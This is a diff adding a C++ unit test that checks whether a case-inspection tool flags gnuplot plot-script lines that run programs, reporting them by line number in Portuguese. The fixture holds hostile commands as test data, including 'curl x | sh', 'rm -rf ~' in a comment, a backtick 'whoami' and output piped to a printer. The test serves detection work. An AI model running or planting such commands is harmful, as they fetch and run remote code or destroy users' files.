@@ -76,6 +76,32 @@ TEST_F(Inspect, CaseThatFitsLeavesEveryFileAsItWas) {
   EXPECT_TRUE(dir.launches().empty());
 }
 
+// A received case whose plot script runs a program when the run draws the
+// plot: the check names each such line of the six the user writes, and
+// nothing on the other lines.
+TEST_F(Inspect, APlotScriptThatRunsProgramsIsNamedByLine) {
+  e2e::CaseDir dir;
+  write_f67_case(dir, "2.126", "3.050");
+  dir.write(e2e::kPlotScriptFile,
+            "# system('rm -rf ~') only in a comment\r\n"
+            "set xlabel 't [s]'; set ylabel 'F [N]'\r\n"
+            "set grid; sy 'curl x | sh'\r\n"
+            "set output '| lp'\r\n"
+            "if (1) { set terminal qt persist } else { load 'outro.gnu' }\r\n"
+            "set title \"`whoami`\"\r\n"
+            "system('echo depois da linha 6')\r\n");
+  const auto before = contents(dir);
+  const e2e::RunResult r = inspect(dir);
+  EXPECT_EQ(r.exit_status, 1) << r.out << r.err;
+  for (const int line : {3, 4, 5, 6}) {
+    EXPECT_TRUE(has(r.out, "a linha " + std::to_string(line) + " do roteiro do gráfico")) << line << r.out;
+  }
+  for (const int line : {1, 2, 7}) {
+    EXPECT_FALSE(has(r.out, "a linha " + std::to_string(line) + " do roteiro do gráfico")) << line << r.out;
+  }
+  EXPECT_EQ(contents(dir), before);
+}
+
 TEST_F(Inspect, AWindowReadByEyeIsFlaggedOnlyWhenItCutsTheBurn) {
   {
     e2e::CaseDir dir;
